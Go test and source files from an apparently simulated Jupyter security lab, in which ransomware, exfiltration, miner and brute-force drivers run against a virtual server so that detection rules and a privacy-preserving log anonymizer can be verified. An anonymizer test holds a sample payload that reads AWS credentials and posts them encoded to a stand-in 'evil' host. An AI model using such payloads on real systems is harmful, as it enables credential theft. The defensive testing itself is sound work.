// eventCollector records events in arrival order (the kernel manager
// under test executes serially, so no locking is needed).
type eventCollector struct {
	events []trace.Event
}

func (c *eventCollector) Emit(ev trace.Event) { c.events = append(c.events, ev.Clone()) }

// attackScripts is every minilang payload the attack drivers send,
// in a fixed scenario order: ransomware with defaults, exfiltration
// single-shot and chunked+encoded, and both miner archetypes.
func attackScripts() []struct {
	name    string
	user    string
	scripts []string
} {
	miner := MinerOptions{BurnMillis: 500}.withDefaults()
	stealthy := MinerOptions{BurnMillis: 500, Blatant: false}.withDefaults()
	miner.Blatant = true
	return []struct {
		name    string
		user    string
		scripts []string
	}{
		{"ransomware", "mallory", []string{
			ransomwarePayload(RansomwareOptions{}.withDefaults()),
		}},
		{"exfil-plain", "mallory", []string{
			exfilPayload(ExfilOptions{TargetDir: "data"}.withDefaults()),
		}},
		{"exfil-chunked", "mallory", []string{
			exfilPayload(ExfilOptions{TargetDir: "models", Encode: true, ChunkBytes: 512}.withDefaults()),
		}},
		{"miner-blatant", "mallory", []string{
			minerSetupScript(miner),
			minerRoundScript(miner, 0),
			minerRoundScript(miner, 1),
		}},
		{"miner-stealthy", "sneaky", []string{
			minerSetupScript(stealthy),
			minerRoundScript(stealthy, 0),
			minerRoundScript(stealthy, 1),
		}},
	}
}

// runAttackScripts executes every attack script on a kernel manager
// using the named minilang engine, over a fake clock and a freshly
// seeded virtual filesystem, and returns the full trace-event stream
// plus a transcript of execution outcomes.
func runAttackScripts(t *testing.T, engine string) ([]trace.Event, []string) {
	t.Helper()
	col := &eventCollector{}
	fc := trace.NewFakeClock(time.Date(2026, 7, 1, 12, 0, 0, 0, time.UTC))
	bus := trace.NewBus(fc)
	bus.Subscribe(col)
	fs := vfs.New(vfs.WithClock(fc), vfs.WithSink(bus))
	for i := 0; i < 4; i++ {
		path := "notebooks/exp_" + string(rune('a'+i)) + ".ipynb"
		if err := fs.Write(path, "setup", []byte(fmt.Sprintf(`{"cells":[],"n":%d}`, i))); err != nil {
			t.Fatal(err)
		}
	}
	if err := fs.Write("data/train.csv", "setup", []byte("f1,f2,label\n0.1,0.2,1\n")); err != nil {
		t.Fatal(err)
	}
	if err := fs.Write("models/weights.bin", "setup", []byte("Wq7Wq7Wq7Wq7Wq7Wq7Wq7Wq7")); err != nil {
		t.Fatal(err)
	}
	mgr := kernel.NewManager(kernel.Config{
		FS:           fs,
		Clock:        fc,
		Sink:         bus,
		Gateway:      NewSinkGateway(),
		ShellEnabled: true,
		Engine:       engine,
	})

	var transcript []string
	for _, sc := range attackScripts() {
		k := mgr.Start("minilang", sc.user)
		for i, src := range sc.scripts {
			res, err := k.Execute(src, nil)
			if err != nil {
				t.Fatalf("%s: %s cell %d: %v", engine, sc.name, i, err)
			}
			transcript = append(transcript, fmt.Sprintf("%s cell %d: status=%s ename=%s stdout=%q",
				sc.name, i, res.Status, res.EName, res.Stdout))
		}
	}
	return col.events, transcript
}

// marshalEvents renders an event stream as JSON lines, the format the
// event log records, so divergence is caught at the byte level.
func marshalEvents(t *testing.T, events []trace.Event) []string {
	t.Helper()
	out := make([]string, len(events))
	for i, ev := range events {
		b, err := json.Marshal(ev)
		if err != nil {
			t.Fatal(err)
		}
		out[i] = string(b)
	}
	return out
}

func TestAttackScriptsEngineEquivalence(t *testing.T) {
	treeEvents, treeTranscript := runAttackScripts(t, minilang.EngineTree)
	vmEvents, vmTranscript := runAttackScripts(t, minilang.EngineVM)

	if len(treeTranscript) != len(vmTranscript) {
		t.Fatalf("transcript length: tree=%d vm=%d", len(treeTranscript), len(vmTranscript))
	}
	for i := range treeTranscript {
		if treeTranscript[i] != vmTranscript[i] {
			t.Errorf("execution %d diverges:\ntree: %s\nvm:   %s", i, treeTranscript[i], vmTranscript[i])
		}
	}

	treeLines := marshalEvents(t, treeEvents)
	vmLines := marshalEvents(t, vmEvents)
	if len(treeLines) != len(vmLines) {
		t.Fatalf("event count: tree=%d vm=%d", len(treeLines), len(vmLines))
	}
	for i := range treeLines {
		if treeLines[i] != vmLines[i] {
			t.Fatalf("event %d diverges:\ntree: %s\nvm:   %s", i, treeLines[i], vmLines[i])
		}
	}
	if len(treeEvents) == 0 {
		t.Fatal("no events collected")
	}
}

// TestAttackIncidentTablesEngineEquivalence replays both engines'
// event streams through the core detection engine at worker counts 1
// and 8: all four rendered incident tables must be byte-identical.
func TestAttackIncidentTablesEngineEquivalence(t *testing.T) {
	treeEvents, _ := runAttackScripts(t, minilang.EngineTree)
	vmEvents, _ := runAttackScripts(t, minilang.EngineVM)

	render := func(events []trace.Event, workers int) string {
		eng := core.MustEngine()
		workload.Replay(events, workers, 64, func(b []trace.Event) {
			eng.ProcessBatch(b)
		})
		return core.RenderIncidentTable(eng.TopByRisk(20))
	}

	want := render(treeEvents, 1)
	if want == "" {
		t.Fatal("empty incident table")
	}
	for _, tc := range []struct {
		name   string
		events []trace.Event
		worker int
	}{
		{"tree/8", treeEvents, 8},
		{"vm/1", vmEvents, 1},
		{"vm/8", vmEvents, 8},
	} {
		if got := render(tc.events, tc.worker); got != want {
			t.Errorf("%s incident table diverges from tree/1:\n%s\nvs\n%s", tc.name, got, want)
		}
	}
}

// TestAttackDriversRunOnTreeEngine runs the full HTTP attack drivers
// against a server whose kernels use the tree interpreter, pinning
// that detection does not depend on the default engine.
func TestAttackDriversRunOnTreeEngine(t *testing.T) {
	cfg := server.SloppyConfig()
	cfg.KernelEngine = minilang.EngineTree
	l := newLab(t, cfg)
	res, err := Ransomware(l.c, RansomwareOptions{Username: "mallory"})
	if err != nil {
		t.Fatal(err)
	}
	if !res.Succeeded {
		t.Fatalf("attack failed on tree engine: %+v", res.Notes)
	}
	if len(l.classIncidents(rules.ClassRansomware)) == 0 {
		t.Fatal("ransomware not detected on tree engine")
	}
}
