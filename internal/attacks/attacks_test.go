package attacks

import (
	"strings"
	"testing"
	"time"

	"repro/internal/auth"
	"repro/internal/client"
	"repro/internal/core"
	"repro/internal/nbformat"
	"repro/internal/rules"
	"repro/internal/server"
	"repro/internal/vfs"
)

// lab boots a sloppy (attackable) server with a core engine watching
// its bus and science artifacts seeded, optionally with an exfil sink
// gateway.
type lab struct {
	srv  *server.Server
	eng  *core.Engine
	c    *client.Client
	sink *SinkGateway
}

func newLab(t *testing.T, cfg server.Config) *lab {
	t.Helper()
	sink := NewSinkGateway()
	srv := server.NewServer(cfg, server.WithGateway(sink))
	eng := core.MustEngine()
	srv.Bus().Subscribe(eng)
	addr, err := srv.Start()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Close() })

	// Seed artifacts: notebooks, data, models. Notebooks carry enough
	// content (as real research notebooks do) that ciphertext entropy
	// is measurable.
	nb := nbformat.New()
	nb.AppendMarkdown("md1", "# Experiment 7\n"+strings.Repeat("Observations about the training run.\n", 20))
	for i := 0; i < 10; i++ {
		nb.AppendCode("c"+string(rune('0'+i)),
			`data = read_file("data/train.csv")`+"\n"+`print("epoch", `+string(rune('0'+i))+`, len(data))`)
	}
	nbJSON, _ := nb.Marshal()
	for i := 0; i < 6; i++ {
		path := "notebooks/exp_" + string(rune('a'+i)) + ".ipynb"
		if err := srv.FS.Write(path, "setup", nbJSON); err != nil {
			t.Fatal(err)
		}
	}
	_ = srv.FS.Write("data/train.csv", "setup", []byte(strings.Repeat("f1,f2,label\n0.1,0.2,1\n", 400)))
	_ = srv.FS.Write("models/weights.bin", "setup", []byte(strings.Repeat("Wq7", 4000)))

	return &lab{srv: srv, eng: eng, c: client.New(addr, cfg.Auth.Token), sink: sink}
}

func (l *lab) classIncidents(class string) []*core.Incident {
	return l.eng.IncidentsByClass()[class]
}

func TestRansomwareAttackAndDetection(t *testing.T) {
	l := newLab(t, server.SloppyConfig())
	res, err := Ransomware(l.c, RansomwareOptions{Username: "mallory"})
	if err != nil {
		t.Fatal(err)
	}
	if !res.Succeeded {
		t.Fatalf("attack failed: %+v", res.Notes)
	}
	// Damage check: notebooks renamed and encrypted, note planted.
	if !l.srv.FS.Exists("README_RANSOM.txt") {
		t.Fatal("ransom note missing")
	}
	if l.srv.FS.Exists("notebooks/exp_a.ipynb") {
		t.Fatal("original notebook still present")
	}
	locked, err := l.srv.FS.Read("notebooks/exp_a.ipynb.locked", "check")
	if err != nil {
		t.Fatal(err)
	}
	if vfs.Entropy(locked) < 7.0 {
		t.Fatalf("locked file entropy = %f (not encrypted?)", vfs.Entropy(locked))
	}
	// Detection check.
	incs := l.classIncidents(rules.ClassRansomware)
	if len(incs) == 0 {
		t.Fatal("ransomware not detected")
	}
	ruleIDs := map[string]bool{}
	for _, inc := range incs {
		for _, a := range inc.Alerts {
			ruleIDs[a.RuleID] = true
		}
	}
	for _, want := range []string{"RW-001-encrypt-call", "RW-002-ransom-note", "ANOM-RW-write-burst"} {
		if !ruleIDs[want] {
			t.Errorf("rule %s did not fire (got %v)", want, ruleIDs)
		}
	}
}

func TestExfiltrationAttackAndDetection(t *testing.T) {
	l := newLab(t, server.SloppyConfig())
	res, err := Exfiltration(l.c, ExfilOptions{
		TargetDir: "models", Encode: true, Username: "mallory",
	})
	if err != nil {
		t.Fatal(err)
	}
	if !res.Succeeded {
		t.Fatalf("attack failed: %+v", res.Notes)
	}
	bytesOut, reqs := l.sink.Captured()
	if bytesOut == 0 || reqs == 0 {
		t.Fatal("nothing reached the collector")
	}
	incs := l.classIncidents(rules.ClassExfiltration)
	if len(incs) == 0 {
		t.Fatal("exfiltration not detected")
	}
}

func TestExfiltrationBlockedByEgressPolicy(t *testing.T) {
	// Hardened server: DenyAllGateway (no WithGateway option).
	cfg := server.SloppyConfig() // auth open so attack reaches kernel
	srv := server.NewServer(cfg) // default deny-all gateway
	eng := core.MustEngine()
	srv.Bus().Subscribe(eng)
	addr, _ := srv.Start()
	defer srv.Close()
	_ = srv.FS.Write("data/d.csv", "setup", []byte("secret"))

	res, err := Exfiltration(client.New(addr, ""), ExfilOptions{Username: "mallory"})
	if err != nil {
		t.Fatal(err)
	}
	if res.Succeeded {
		t.Fatal("exfiltration succeeded despite egress denial")
	}
	// The attempt is still visible to detection (failed net_op).
	if len(eng.IncidentsByClass()[rules.ClassExfiltration]) == 0 {
		t.Fatal("blocked exfil attempt not flagged")
	}
}

func TestCryptominerAttackAndDetection(t *testing.T) {
	l := newLab(t, server.SloppyConfig())
	res, err := Cryptominer(l.c, MinerOptions{
		Rounds: 5, BurnMillis: 40_000, Blatant: true, Username: "mallory",
	})
	if err != nil {
		t.Fatal(err)
	}
	if !res.Succeeded {
		t.Fatalf("attack failed: %+v", res.Notes)
	}
	incs := l.classIncidents(rules.ClassCryptomining)
	if len(incs) == 0 {
		t.Fatal("miner not detected")
	}
	var sawSignature, sawResource bool
	for _, inc := range incs {
		for _, a := range inc.Alerts {
			if a.RuleID == "CM-001-miner-strings" {
				sawSignature = true
			}
			if strings.HasPrefix(a.RuleID, "CM-002") || strings.HasPrefix(a.RuleID, "ANOM-CM") {
				sawResource = true
			}
		}
	}
	if !sawSignature || !sawResource {
		t.Fatalf("signature=%v resource=%v", sawSignature, sawResource)
	}
}

func TestStealthyMinerCaughtByResourceOnly(t *testing.T) {
	l := newLab(t, server.SloppyConfig())
	if _, err := Cryptominer(l.c, MinerOptions{
		Rounds: 5, BurnMillis: 40_000, Blatant: false, Username: "sneaky",
	}); err != nil {
		t.Fatal(err)
	}
	incs := l.classIncidents(rules.ClassCryptomining)
	if len(incs) == 0 {
		t.Fatal("stealthy miner escaped resource detection")
	}
	for _, inc := range incs {
		for _, a := range inc.Alerts {
			if a.RuleID == "CM-001-miner-strings" {
				t.Fatal("signature fired without miner strings?")
			}
		}
	}
}

func TestMisconfigProbeOpenVsHardened(t *testing.T) {
	open := newLab(t, server.SloppyConfig())
	res, err := MisconfigProbe(open.c, ProbeOptions{SourceLabel: "scanner"})
	if err != nil {
		t.Fatal(err)
	}
	if !res.Succeeded {
		t.Fatal("probe found nothing open on sloppy server")
	}
	// MC-002 (open access) must fire.
	if len(open.classIncidents(rules.ClassMisconfig)) == 0 {
		t.Fatal("open access not flagged")
	}

	hardened := newLab(t, server.HardenedConfig("strong-token"))
	res2, err := MisconfigProbe(hardened.c, ProbeOptions{SourceLabel: "scanner"})
	if err != nil {
		t.Fatal(err)
	}
	if res2.Succeeded {
		t.Fatalf("hardened server has open endpoints: %+v", res2.Notes)
	}
	// The 403 sweep itself is detected (MC-001).
	if len(hardened.classIncidents(rules.ClassMisconfig)) == 0 {
		t.Fatal("unauthenticated sweep not flagged")
	}
}

func TestBruteForceThrottledAndDetected(t *testing.T) {
	cfg := server.HardenedConfig("tok")
	cfg.Auth.Passwords = map[string]auth.PasswordHash{
		"alice": auth.HashPassword("correct-horse"),
	}
	l := newLab(t, cfg)
	res, err := BruteForce(l.c, BruteForceOptions{
		Username: "alice", Correct: "correct-horse",
	})
	if err != nil {
		t.Fatal(err)
	}
	// Throttling must prevent even the correct credential from landing.
	if res.Succeeded {
		t.Fatalf("brute force succeeded despite throttle: %+v", res.Notes)
	}
	if len(l.classIncidents(rules.ClassAccountTakeover)) == 0 {
		t.Fatal("brute force not detected")
	}
}

func TestBruteForceSucceedsWithoutThrottle(t *testing.T) {
	cfg := server.HardenedConfig("tok")
	cfg.Auth.MaxFailures = 0 // the JPY-011 misconfiguration
	cfg.Auth.Passwords = map[string]auth.PasswordHash{
		"alice": auth.HashPassword("hunter2"), // in the default wordlist
	}
	l := newLab(t, cfg)
	res, err := BruteForce(l.c, BruteForceOptions{Username: "alice"})
	if err != nil {
		t.Fatal(err)
	}
	if !res.Succeeded {
		t.Fatalf("weak password survived unthrottled guessing: %+v", res.Notes)
	}
	// AT-002 (success after failures) must fire.
	var at002 bool
	for _, inc := range l.classIncidents(rules.ClassAccountTakeover) {
		for _, a := range inc.Alerts {
			if a.RuleID == "AT-002-success-after-failures" {
				at002 = true
			}
		}
	}
	if !at002 {
		t.Fatal("credential-stuffing hit not detected")
	}
}

func TestTerminalReconDetected(t *testing.T) {
	l := newLab(t, server.SloppyConfig())
	res, err := TerminalRecon(l.c, "mallory")
	if err != nil {
		t.Fatal(err)
	}
	if !res.Succeeded {
		t.Fatalf("recon blocked on open server: %+v", res.Notes)
	}
	incs := l.classIncidents(rules.ClassZeroDay)
	if len(incs) == 0 {
		t.Fatal("recon not detected")
	}
	var downloader bool
	for _, inc := range incs {
		for _, a := range inc.Alerts {
			if a.RuleID == "TS-002-downloader" {
				downloader = true
			}
		}
	}
	if !downloader {
		t.Fatal("curl|bash downloader not detected")
	}
}

func TestTerminalReconBlockedOnHardened(t *testing.T) {
	l := newLab(t, server.HardenedConfig("tok"))
	res, err := TerminalRecon(l.c, "mallory")
	if err != nil {
		t.Fatal(err)
	}
	if res.Succeeded {
		t.Fatal("terminals reachable on hardened server")
	}
}

func TestLowSlowProbeRuns(t *testing.T) {
	l := newLab(t, server.HardenedConfig("tok"))
	res, err := LowSlowDoS(l.c, LowSlowOptions{Requests: 6, Interval: 5 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	if res.Actions != 6 {
		t.Fatalf("actions = %d", res.Actions)
	}
	// With only 6 fast requests the low-slow detector must NOT fire
	// (it requires a sustained span) — but the failed-API sweep does.
	for _, inc := range l.eng.Incidents() {
		for _, a := range inc.Alerts {
			if a.RuleID == "ANOM-DS-low-slow" {
				t.Fatal("low-slow fired on a short fast burst")
			}
		}
	}
}

func TestRansomwareRecoveryViaCheckpoints(t *testing.T) {
	l := newLab(t, server.SloppyConfig())
	// Operator checkpoints before the incident.
	if _, err := l.srv.FS.CreateCheckpoint("notebooks/exp_a.ipynb"); err != nil {
		t.Fatal(err)
	}
	if _, err := Ransomware(l.c, RansomwareOptions{Username: "mallory"}); err != nil {
		t.Fatal(err)
	}
	// Restore: the file was renamed to .locked; restore the checkpoint
	// under the original name.
	cks, _ := l.srv.FS.Checkpoints("notebooks/exp_a.ipynb")
	if len(cks) != 0 {
		t.Fatal("checkpoints should have moved with rename")
	}
	cks, err := l.srv.FS.Checkpoints("notebooks/exp_a.ipynb.locked")
	if err != nil || len(cks) != 1 {
		t.Fatalf("checkpoints after rename = %v %v", cks, err)
	}
	if err := l.srv.FS.RestoreCheckpoint("notebooks/exp_a.ipynb.locked", cks[0].ID, "admin"); err != nil {
		t.Fatal(err)
	}
	restored, _ := l.srv.FS.Read("notebooks/exp_a.ipynb.locked", "admin")
	if _, err := nbformat.Parse(restored); err != nil {
		t.Fatalf("restored notebook invalid: %v", err)
	}
}

func TestSinkGatewayCaptures(t *testing.T) {
	g := NewSinkGateway()
	_, _, _ = g.Request("POST", "http://x/", []byte("abc"))
	_, _, _ = g.Request("POST", "http://y/", []byte("defg"))
	total, n := g.Captured()
	if total != 7 || n != 2 {
		t.Fatalf("captured = %d %d", total, n)
	}
	if len(g.Payloads()) != 2 {
		t.Fatal("payload copies wrong")
	}
}
