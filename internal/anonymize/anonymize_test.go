package anonymize

import (
	"strings"
	"testing"

	"repro/internal/core"
	"repro/internal/trace"
	"repro/internal/workload"
)

func TestPseudonymsStableAndKeyed(t *testing.T) {
	a := New([]byte("site-key"))
	if a.User("alice") != a.User("alice") {
		t.Fatal("pseudonym unstable")
	}
	if a.User("alice") == a.User("bob") {
		t.Fatal("pseudonym collision")
	}
	b := New([]byte("other-site-key"))
	if a.User("alice") == b.User("alice") {
		t.Fatal("pseudonyms identical across keys (unkeyed hash?)")
	}
}

func TestPseudonymsHideIdentity(t *testing.T) {
	a := New([]byte("site-key"))
	for _, id := range []string{"alice", "203.0.113.66"} {
		p := a.User(id)
		if strings.Contains(p, id) {
			t.Errorf("pseudonym %q leaks identity %q", p, id)
		}
	}
	if p := a.IP("203.0.113.66"); strings.Contains(p, "203.0.113.66") || strings.Contains(p, "113") {
		t.Errorf("IP pseudonym leaks: %q", p)
	}
}

func TestIPScopePreserved(t *testing.T) {
	a := New([]byte("k"))
	cases := map[string]string{
		"127.0.0.1":    "loop-",
		"10.3.2.1":     "site-",
		"203.0.113.66": "pub-",
	}
	for ip, prefix := range cases {
		if p := a.IP(ip); !strings.HasPrefix(p, prefix) {
			t.Errorf("IP(%s) = %q, want prefix %q", ip, p, prefix)
		}
	}
}

func TestPathKeepsStructure(t *testing.T) {
	a := New([]byte("k"))
	p := a.Path("notebooks/secret_project_x.ipynb")
	if !strings.HasPrefix(p, "notebooks/") || !strings.HasSuffix(p, ".ipynb") {
		t.Fatalf("path shape lost: %q", p)
	}
	if strings.Contains(p, "secret_project") {
		t.Fatalf("basename leaked: %q", p)
	}
	// Same path -> same pseudonym (file identity correlates).
	if a.Path("notebooks/secret_project_x.ipynb") != p {
		t.Fatal("path pseudonym unstable")
	}
}

func TestCodeReducedToFeatures(t *testing.T) {
	a := New([]byte("k"))
	src := `data = read_file("secrets/.aws_credentials")
http_post("http://evil", b64encode(data))`
	f := a.Code(src)
	if !f.Parsed || f.Length != len(src) {
		t.Fatalf("features = %+v", f)
	}
	joined := strings.Join(f.Calls, ",")
	for _, want := range []string{"b64encode", "http_post", "read_file"} {
		if !strings.Contains(joined, want) {
			t.Errorf("calls missing %s: %v", want, f.Calls)
		}
	}
	// Same payload -> same hash (campaign correlation works).
	if a.Code(src).Hash != f.Hash {
		t.Fatal("code hash unstable")
	}
}

func TestEventAnonymization(t *testing.T) {
	a := New([]byte("k"))
	e := trace.Event{
		Kind: trace.KindExec, User: "mallory", SrcIP: "203.0.113.66",
		Session: "sess-1", Code: `read_file("data/x.csv")`,
		Detail: "error mentioning /home/mallory",
	}
	out := a.Event(e)
	if out.User == "mallory" || out.SrcIP == "203.0.113.66" ||
		out.Session != "" || out.Code != "" || out.Detail != "" {
		t.Fatalf("identifying fields survived: %+v", out)
	}
	if out.Field("code_hash") == "" || out.Field("code_calls") == "" {
		t.Fatalf("code features missing: %+v", out.Fields)
	}
	// Original untouched (Clone semantics).
	if e.User != "mallory" {
		t.Fatal("original mutated")
	}
}

// TestDetectionSurvivesAnonymization is the point of the design: the
// shared dataset must still be useful for security research. Behaviour
// detectors (entropy bursts, auth failures, resource abuse) must fire
// on the anonymized trace as they do on the raw one.
func TestDetectionSurvivesAnonymization(t *testing.T) {
	tr := workload.StandardMix(7, 300)
	a := New([]byte("site-key"))
	anon := a.Dataset(tr.Events)

	eng := core.MustEngine()
	for _, e := range anon {
		eng.Process(e)
	}
	byClass := eng.IncidentsByClass()
	// Behavioural classes detectable without raw code/identities.
	for _, class := range []string{
		"ransomware", "data_exfiltration", "cryptomining",
		"account_takeover", "denial_of_service",
	} {
		if len(byClass[class]) == 0 {
			t.Errorf("class %s lost under anonymization", class)
		}
	}
	// Source-signature classes (raw code regexes) are expected to
	// degrade — that is the documented sharing trade-off. Verify the
	// trade-off is real: raw trace fires zero_day, anonymized doesn't.
	rawEng := core.MustEngine()
	for _, e := range tr.Events {
		rawEng.Process(e)
	}
	if len(rawEng.IncidentsByClass()["zero_day"]) == 0 {
		t.Fatal("raw trace should flag zero_day")
	}
}

func TestDatasetLeakScan(t *testing.T) {
	tr := workload.StandardMix(3, 200)
	a := New([]byte("site-key"))
	anon := a.Dataset(tr.Events)
	secrets := []string{"alice", "bob", "carol", "dave", "mallory", "203.0.113.66", "198.51.100.9"}
	for i, e := range anon {
		for _, s := range secrets {
			for _, field := range []string{e.User, e.SrcIP, e.Code, e.Detail, e.Target} {
				if strings.Contains(field, s) {
					t.Fatalf("event %d leaks %q in %q", i, s, field)
				}
			}
		}
	}
}

func TestReport(t *testing.T) {
	a := New([]byte("k"))
	a.User("u1")
	a.User("u2")
	a.User("u1")
	a.IP("10.0.0.1")
	r := a.Report()
	if r.Users != 2 || r.Hosts != 1 {
		t.Fatalf("report = %+v", r)
	}
}
