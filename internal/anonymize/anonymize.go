// Package anonymize implements the privacy-preserving log sharing the
// paper's dataset discussion calls for: "Although NCSA can retain
// longitudinal data, log anonymization and privacy-preserving sharing
// need to be studied."
//
// The anonymizer pseudonymizes identifying fields of trace events with
// a keyed HMAC so that (a) the same identity maps to the same
// pseudonym — analyses over the shared dataset still correlate
// activity per actor — while (b) without the site-held key, pseudonyms
// cannot be reversed or linked back to real users and addresses. Code
// payloads are reduced to structural features (length, called
// primitives, hash) rather than shared raw, and rare free-text fields
// are suppressed.
package anonymize

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net"
	"sort"
	"strings"
	"sync"

	"repro/internal/kernel/minilang"
	"repro/internal/trace"
)

// Anonymizer pseudonymizes trace events under a site-held key.
type Anonymizer struct {
	key []byte

	mu    sync.Mutex
	users map[string]string
	hosts map[string]string
	// Counters keep pseudonyms short and readable.
	userSeq, hostSeq int
}

// New returns an anonymizer for the given site key. The key never
// leaves the site; the shared dataset cannot be de-pseudonymized
// without it.
func New(key []byte) *Anonymizer {
	return &Anonymizer{
		key:   append([]byte(nil), key...),
		users: map[string]string{},
		hosts: map[string]string{},
	}
}

// tag derives a short keyed tag for a value in a namespace.
func (a *Anonymizer) tag(namespace, value string) string {
	mac := hmac.New(sha256.New, a.key)
	mac.Write([]byte(namespace))
	mac.Write([]byte{0})
	mac.Write([]byte(value))
	return hex.EncodeToString(mac.Sum(nil))[:10]
}

// User returns the stable pseudonym for a username.
func (a *Anonymizer) User(user string) string {
	if user == "" {
		return ""
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	if p, ok := a.users[user]; ok {
		return p
	}
	a.userSeq++
	p := fmt.Sprintf("user-%03d-%s", a.userSeq, a.tag("user", user))
	a.users[user] = p
	return p
}

// IP returns the stable pseudonym for an address, preserving whether
// it was loopback, private (site-internal), or public — the property
// network analyses need — without revealing the address.
func (a *Anonymizer) IP(ip string) string {
	if ip == "" {
		return ""
	}
	scope := "pub"
	if parsed := net.ParseIP(ip); parsed != nil {
		switch {
		case parsed.IsLoopback():
			scope = "loop"
		case parsed.IsPrivate():
			scope = "site"
		}
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	key := scope + "|" + ip
	if p, ok := a.hosts[key]; ok {
		return p
	}
	a.hostSeq++
	p := fmt.Sprintf("%s-%03d-%s", scope, a.hostSeq, a.tag("ip", ip))
	a.hosts[key] = p
	return p
}

// Path generalizes a content path: the directory structure and
// extension survive (they carry the behavioural signal), the basename
// is pseudonymized.
func (a *Anonymizer) Path(p string) string {
	if p == "" {
		return ""
	}
	dir := ""
	base := p
	if i := strings.LastIndexByte(p, '/'); i >= 0 {
		dir, base = p[:i+1], p[i+1:]
	}
	ext := ""
	if j := strings.LastIndexByte(base, '.'); j > 0 {
		ext = base[j:]
	}
	return dir + "f-" + a.tag("path", p) + ext
}

// CodeFeatures is the shareable reduction of a code payload.
type CodeFeatures struct {
	Length int      `json:"length"`
	Lines  int      `json:"lines"`
	Calls  []string `json:"calls"` // builtin primitives invoked, sorted unique
	Hash   string   `json:"hash"`  // keyed; correlates payload reuse across events
	Parsed bool     `json:"parsed"`
}

// Code reduces source text to structural features. Raw code is never
// shared: it can embed secrets, data values, and identities.
func (a *Anonymizer) Code(src string) CodeFeatures {
	f := CodeFeatures{
		Length: len(src),
		Lines:  strings.Count(src, "\n") + 1,
		Hash:   a.tag("code", src),
	}
	if prog, err := minilang.Parse(src); err == nil {
		f.Parsed = true
		seen := map[string]bool{}
		for _, call := range prog.Calls {
			if !seen[call] {
				seen[call] = true
				f.Calls = append(f.Calls, call)
			}
		}
		sort.Strings(f.Calls)
	}
	return f
}

// Event returns the privacy-preserving form of a trace event: the
// shape detectors need, with identities pseudonymized and payloads
// reduced to features.
func (a *Anonymizer) Event(e trace.Event) trace.Event {
	out := e.Clone()
	out.User = a.User(e.User)
	out.SrcIP = a.IP(e.SrcIP)
	out.DstIP = a.IP(e.DstIP)
	out.Session = ""
	if e.Target != "" {
		switch e.Kind {
		case trace.KindFileOp:
			out.Target = a.Path(e.Target)
		case trace.KindNetOp:
			out.Target = "endpoint-" + a.tag("endpoint", e.Target)
		}
	}
	if e.Code != "" {
		feats := a.Code(e.Code)
		out.Code = ""
		if out.Fields == nil {
			out.Fields = map[string]string{}
		}
		out.Fields["code_hash"] = feats.Hash
		out.Fields["code_len"] = fmt.Sprint(feats.Length)
		out.Fields["code_calls"] = strings.Join(feats.Calls, ",")
	}
	// Free-text detail can leak paths and errors mentioning users.
	out.Detail = ""
	return out
}

// Dataset anonymizes a full trace for publication.
func (a *Anonymizer) Dataset(events []trace.Event) []trace.Event {
	out := make([]trace.Event, len(events))
	for i, e := range events {
		out[i] = a.Event(e)
	}
	return out
}

// LinkageReport summarizes the pseudonym space — published alongside a
// dataset so consumers know its cardinality without learning
// identities.
type LinkageReport struct {
	Users int
	Hosts int
}

// Report returns the current pseudonym counts.
func (a *Anonymizer) Report() LinkageReport {
	a.mu.Lock()
	defer a.mu.Unlock()
	return LinkageReport{Users: len(a.users), Hosts: len(a.hosts)}
}
