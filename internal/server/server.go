// Package server implements the simulated Jupyter server: the REST
// API (contents, kernels, sessions, terminals, status), login, and
// the WebSocket kernel-channel endpoint, wired to the auth, vfs, and
// kernel substrates.
//
// The Config deliberately exposes every misconfiguration knob in the
// paper's taxonomy — open bind address, disabled auth, token in URL,
// permissive CORS, TLS off, root allowed, terminals on — so the
// misconfig scanner and the attack drivers have a truthful target.
package server

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"sort"
	"strings"
	"sync"
	"time"

	"repro/internal/auth"
	"repro/internal/jmsg"
	"repro/internal/kernel"
	"repro/internal/nbformat"
	"repro/internal/nbscan"
	"repro/internal/posture"
	"repro/internal/trace"
	"repro/internal/vfs"
	"repro/internal/wsproto"
)

// Version reported by /api/status.
const Version = "7.0.0-sim"

// Config is the full server configuration, defined in the posture
// package so scanner suites can audit one without importing the
// server runtime. The alias keeps every existing call site valid.
type Config = posture.Config

// HardenedConfig returns the secure-by-default configuration the
// paper's hardening discussion recommends.
func HardenedConfig(token string) Config { return posture.Hardened(token) }

// SloppyConfig returns the exposed configuration seen on internet-
// scanned Jupyter instances: every knob wrong at once.
func SloppyConfig() Config { return posture.Sloppy() }

// PresetConfig resolves a named baseline configuration ("hardened" or
// "sloppy"), so the scanner CLI and the fleet generator share one
// preset registry.
func PresetConfig(name, token string) (Config, bool) { return posture.Preset(name, token) }

// Server is a running simulated Jupyter server.
type Server struct {
	cfg         Config
	clock       trace.Clock
	bus         *trace.Bus
	gateway     kernel.Gateway
	hostWrapper kernel.HostWrapper
	execHook    func(kernelID, user, code string)

	FS      *vfs.FS
	Auth    *auth.Authenticator
	Kernels *kernel.Manager

	mu        sync.Mutex
	sessions  map[string]*NotebookSession
	terminals map[string]*Terminal
	sessSeq   int
	termSeq   int

	httpServer *http.Server
	listener   net.Listener
	started    time.Time
}

// NotebookSession maps a notebook path to a running kernel.
type NotebookSession struct {
	ID       string `json:"id"`
	Path     string `json:"path"`
	Name     string `json:"name"`
	Type     string `json:"type"`
	KernelID string `json:"kernel_id"`
}

// Terminal is one simulated terminal.
type Terminal struct {
	Name    string    `json:"name"`
	Started time.Time `json:"-"`
	mu      sync.Mutex
	history []string
}

// History returns commands run in the terminal.
func (t *Terminal) History() []string {
	t.mu.Lock()
	defer t.mu.Unlock()
	out := make([]string, len(t.history))
	copy(out, t.history)
	return out
}

// Option configures a Server.
type Option func(*Server)

// WithClock injects a clock.
func WithClock(c trace.Clock) Option { return func(s *Server) { s.clock = c } }

// WithBus injects the trace bus all events flow to.
func WithBus(b *trace.Bus) Option { return func(s *Server) { s.bus = b } }

// WithGateway sets the kernels' outbound network gateway.
func WithGateway(g kernel.Gateway) Option { return func(s *Server) { s.gateway = g } }

// WithKernelHooks installs a host wrapper and exec hook on every
// kernel — the attachment point for the kernel auditing tool.
func WithKernelHooks(w kernel.HostWrapper, execHook func(kernelID, user, code string)) Option {
